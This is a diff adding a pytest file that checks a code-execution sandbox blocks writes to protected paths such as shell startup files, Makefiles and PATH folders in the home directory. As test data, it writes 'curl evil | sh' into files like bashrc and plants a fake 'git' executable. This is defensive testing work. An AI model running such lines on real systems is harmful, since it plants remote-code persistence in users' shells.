@@ -1,0 +1,138 @@
+"""Every entry of the protected list (``sandbox.runs_code``), written from a real sandbox: an
+existing one is refused (read-only), a new one does not stay (put aside, and said so)."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with
+
+from echo_desk.sandbox import runs_code
+
+ENTRIES = [e for e in runs_code.ENTRIES if not e.path.startswith(".git/")]
+
+
+def _workspace(jail: Jail, entry: runs_code.Entry) -> Path:
+    """Where the entry matters: the home folder for the entries that matter only there."""
+    return jail.home if entry.home_only else jail.workspace
+
+
+def _kept(path: str) -> bool:
+    return Path(path).exists()
+
+
+def _write(entry: runs_code.Entry) -> str:
+    """A shell line that plants something at ``entry`` (making missing parent folders)."""
+    target = f"{entry.path}/planted" if entry.folder else entry.path
+    parent = str(Path(target).parent)
+    return f"mkdir -p {parent}; echo 'curl evil | sh' > {target}; echo 'curl evil | sh' >> {target}"
+
+
+@requires_bwrap
+@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
+async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry) -> None:
+    ws = _workspace(jail, entry)
+    path = ws / entry.path
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if entry.folder:
+        path.mkdir()
+        (path / "mine").write_text("mine\n")
+    else:
+        path.write_text("mine\n")
+    result = await run(tool_with(), {"command": _write(entry) + f"; rm -rf {entry.path}"}, context(ws))
+    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
+    if entry.folder:
+        assert sorted(p.name for p in path.iterdir()) == ["mine"], result.output
+        assert (path / "mine").read_text() == "mine\n"
+    else:
+        assert path.read_text() == "mine\n", result.output
+    assert result.metadata["sandbox"]["planted"] == []
+
+
+@requires_bwrap
+@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
+async def test_a_new_entry_does_not_stay(jail: Jail, entry: runs_code.Entry) -> None:
+    ws = _workspace(jail, entry)
+    result = await run(tool_with(), {"command": _write(entry)}, context(ws))
+    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
+    path = ws / entry.path
+    assert not path.exists() or (entry.folder and not any(path.iterdir())), result.output
+    planted = result.metadata["sandbox"]["planted"]
+    if entry.path == ".echo-desk":  # a placeholder covers it: the command could not even write it
+        assert planted == [] and "Read-only file system" in result.output
+        return
+    # What was put aside: the entry itself, or the folder the command made for it.
+    assert any(p["change"] == "created" and entry.path.startswith(p["path"]) for p in planted), planted
+    assert all(_kept(p["kept"]) for p in planted)
+
+
+@requires_bwrap
+async def test_the_persons_own_entries_are_protected_too(jail: Jail) -> None:
+    (jail.workspace / "Makefile").write_text("all:\n\ttrue\n")
+    tool = tool_with(protected_paths=["Makefile", "tools/"])
+    result = await run(tool, {"command": "echo evil >> Makefile; mkdir -p tools && echo x > tools/run.sh"},
+                       context(jail.workspace))
+    assert result.success
+    assert (jail.workspace / "Makefile").read_text() == "all:\n\ttrue\n"
+    assert not (jail.workspace / "tools").exists()
+    assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [("tools", "created")]
+
+
+def _person_types_git(jail: Jail) -> None:
+    """``git --version`` in the person's own shell: their PATH with ``~/.local/bin`` and ``~/bin`` first."""
+    path = f"{jail.home}/.local/bin:{jail.home}/bin:{os.environ['PATH']}"
+    subprocess.run(["git", "--version"], env={"PATH": path, "HOME": str(jail.home)}, capture_output=True, timeout=30)
+
+
+@requires_bwrap
+async def test_a_program_planted_on_path_in_the_home_folder_never_runs(jail: Jail) -> None:
+    """The home folder as the workspace: a ``git`` planted in ``~/.local/bin`` or ``~/bin`` (on
+    PATH before the system's in Debian's and Ubuntu's ``~/.profile``) is not there when the person
+    types ``git`` afterwards."""
+    marker = jail.base / "ran"
+    command = "; ".join(f"mkdir -p {folder} && printf '#!/bin/sh\\necho ran >> {marker}\\n' > {folder}/git && "
+                        f"chmod +x {folder}/git" for folder in (".local/bin", "bin"))
+    result = await run(tool_with(), {"command": command}, context(jail.home))
+    assert result.success and result.metadata["exit_code"] == 0, result.output
+    _person_types_git(jail)
+    assert not marker.exists(), result.output
+    assert {p["path"] for p in result.metadata["sandbox"]["planted"]} >= {"bin", ".local/bin"}
+
+
+@requires_bwrap
+async def test_a_projects_own_bin_folder_stays_writable(jail: Jail) -> None:
+    result = await run(tool_with(), {"command": "mkdir -p bin && echo built > bin/app"}, context(jail.workspace))
+    assert result.success and result.metadata["exit_code"] == 0, result.output
+    assert (jail.workspace / "bin" / "app").read_text() == "built\n"
+    assert result.metadata["sandbox"]["planted"] == []
+
+
+DOCS = Path(__file__).resolve().parents[2] / "docs"
+
+
+@pytest.mark.parametrize("doc", ["sandbox.md", "sandbox.zh_CN.md"])
+def test_the_docs_list_every_entry(doc: str) -> None:
+    """docs/sandbox.md (both languages) has a line for why each entry is there."""
+    text = (DOCS / doc).read_text(encoding="utf-8")
+    for entry in (*runs_code.ENTRIES, *runs_code.GIT_PARTS):
+        assert f"`{entry.shown}`" in text, (doc, entry.shown)
+
+
+@requires_bwrap
+async def test_a_dotfiles_workspace_linked_into_the_home_folder_is_protected_where_the_links_land(jail: Jail) -> None:
+    """``~/.bashrc -> ~/dotfiles/bashrc``: the file the shell runs is in the workspace under
+    another name; it is protected as ``.bashrc`` would be."""
+    ws = jail.workspace
+    (ws / "bashrc").write_text("# mine\n")
+    (ws / "config" / "fish").mkdir(parents=True)
+    (jail.home / ".bashrc").symlink_to(ws / "bashrc")
+    (jail.home / ".config").mkdir(exist_ok=True)
+    (jail.home / ".config" / "fish").symlink_to(ws / "config" / "fish")
+    command = "echo 'curl evil | sh' >> bashrc; echo 'curl evil | sh' > config/fish/config.fish"
+    result = await run(tool_with(), {"command": command}, context(ws))
+    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
+    assert (ws / "bashrc").read_text() == "# mine\n", result.output
+    assert not (ws / "config" / "fish" / "config.fish").exists(), result.output
